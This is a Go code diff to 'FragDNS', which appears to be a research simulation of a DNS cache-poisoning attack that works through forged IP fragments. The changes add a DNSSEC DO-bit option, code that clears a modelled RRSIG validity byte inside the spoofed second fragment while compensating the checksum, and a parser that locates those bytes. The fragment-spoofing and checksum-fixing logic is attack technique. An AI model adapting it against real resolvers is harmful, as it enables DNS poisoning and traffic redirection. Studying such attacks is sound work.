@@ -45,6 +45,11 @@ type FragDNS struct {
 	// per-implementation knowledge the attacker uses to predict the
 	// response bytes).
 	ResolverEDNS uint16
+	// ResolverDO mirrors the DO (DNSSEC OK) bit the resolver sets on
+	// its queries — validating resolvers set it, and the OPT record it
+	// echoes into sits in the response tail, so the template fetch
+	// must match it for the predicted bytes to be exact.
+	ResolverDO bool
 	// IPIDGuesses is how many consecutive/random IPID values to plant
 	// (the defragmentation buffer holds 64 datagrams).
 	IPIDGuesses int
@@ -133,7 +138,7 @@ func (a *FragDNS) fetchTemplate() []byte {
 	txid := uint16(0x4242)
 	q := dnswire.NewQuery(txid, dnswire.CanonicalName(a.QName), a.QType)
 	if a.ResolverEDNS > 0 {
-		q.SetEDNS(a.ResolverEDNS, false)
+		q.SetEDNS(a.ResolverEDNS, a.ResolverDO)
 	}
 	wire, err := q.Pack()
 	if err != nil {
@@ -268,6 +273,28 @@ func CraftSecondFragment(dnsWire []byte, mtu int, spoof netip.Addr) (frag2 []byt
 	}
 	copy(tail[relA:relA+4], sp[:])
 
+	// A signed zone's response carries an RRSIG covering the A RRset.
+	// The attacker cannot produce a signature over the modified rdata,
+	// so the craft must clear the marker's validity byte (folding the
+	// change into the same checksum compensation); a validating
+	// resolver then rejects the reassembled answer as bogus — DNSSEC
+	// stops FragDNS (§6.1). A covering RRSIG that sits in the FIRST
+	// fragment is out of the attacker's reach entirely: the genuine
+	// valid marker would vouch for rdata the attacker rewrote, so the
+	// craft conservatively refuses rather than model a forgery.
+	for _, vOff := range rrsigValidityOffsets(dnsWire, dnswire.TypeA) {
+		vOff += packet.UDPHeaderLen
+		if vOff < fragOff {
+			return nil, 0, false
+		}
+		rel := vOff - fragOff
+		if rel >= len(tail) {
+			continue
+		}
+		delta += (0 - int64(tail[rel])) * weight(rel)
+		tail[rel] = 0
+	}
+
 	t2, t3 := relTTL+2, relTTL+3
 	cur := int64(tail[t2])*weight(t2) + int64(tail[t3])*weight(t3)
 	needed := mod65535(cur - delta)
@@ -339,6 +366,59 @@ func lastARecordOffsets(msg []byte) (rdataOff, ttlOff int, found bool) {
 		off = rOff + rdlen
 	}
 	return rdataOff, ttlOff, found
+}
+
+// rrsigValidityOffsets walks the DNS message and returns the byte
+// offsets of the validity marker (rdata byte 4, see
+// dnswire.RRSIGData) of every RRSIG record covering the given type.
+func rrsigValidityOffsets(msg []byte, covered dnswire.Type) []int {
+	if len(msg) < dnswire.HeaderLen {
+		return nil
+	}
+	qd := int(binary.BigEndian.Uint16(msg[4:]))
+	an := int(binary.BigEndian.Uint16(msg[6:]))
+	ns := int(binary.BigEndian.Uint16(msg[8:]))
+	ar := int(binary.BigEndian.Uint16(msg[10:]))
+	off := dnswire.HeaderLen
+	skipName := func() bool {
+		for off < len(msg) {
+			b := msg[off]
+			if b == 0 {
+				off++
+				return true
+			}
+			if b&0xc0 == 0xc0 {
+				off += 2
+				return true
+			}
+			off += 1 + int(b)
+		}
+		return false
+	}
+	for i := 0; i < qd; i++ {
+		if !skipName() || off+4 > len(msg) {
+			return nil
+		}
+		off += 4
+	}
+	var offsets []int
+	for i := 0; i < an+ns+ar; i++ {
+		if !skipName() || off+10 > len(msg) {
+			return nil
+		}
+		typ := binary.BigEndian.Uint16(msg[off:])
+		rdlen := int(binary.BigEndian.Uint16(msg[off+8:]))
+		rOff := off + 10
+		if rOff+rdlen > len(msg) {
+			return nil
+		}
+		if typ == uint16(dnswire.TypeRRSIG) && rdlen >= 5 &&
+			binary.BigEndian.Uint16(msg[rOff:]) == uint16(covered) {
+			offsets = append(offsets, rOff+4)
+		}
+		off = rOff + rdlen
+	}
+	return offsets
 }
 
 func (a *FragDNS) String() string {
